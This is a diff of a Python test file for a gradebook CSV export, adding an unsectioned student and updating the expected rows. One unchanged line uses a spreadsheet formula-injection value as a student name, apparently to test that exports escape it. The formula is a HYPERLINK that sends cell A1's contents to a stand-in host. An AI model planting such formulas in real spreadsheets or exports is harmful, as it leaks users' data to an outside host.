@@ -65,7 +65,11 @@ def test_gradebook_csv_one_row_per_student(api: TestClient, people: People, grad
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "student_b@example.edu", "B",
         "active", "6", "0", "6",
     ]  # fmt: skip
-    assert len(table) == 3
+    # In no section: an empty section cell, and no attempt is no points.
+    assert by_email["unsectioned@example.edu"] == [
+        "Unsectioned", "unsectioned@example.edu", "", "active", "0", "0", "0",
+    ]  # fmt: skip
+    assert len(table) == 4
     only_a = rows(api, people, graded, "gradebook.csv", section="A")
     assert [r[1] for r in only_a[1:]] == ["student@example.edu"]
 
@@ -117,7 +121,7 @@ def test_removed_students_stay_in_the_gradebook_but_not_in_canvas(
     statuses = {r[1]: r[3] for r in rows(api, people, graded, "gradebook.csv")[1:]}
     assert statuses["student_b@example.edu"] == "removed"
     canvas = rows(api, people, graded, "canvas.csv")
-    assert [r[3] for r in canvas[2:]] == ["student@example.edu"]
+    assert sorted(r[3] for r in canvas[2:]) == ["student@example.edu", "unsectioned@example.edu"]
 
 
 @pytest.mark.parametrize(
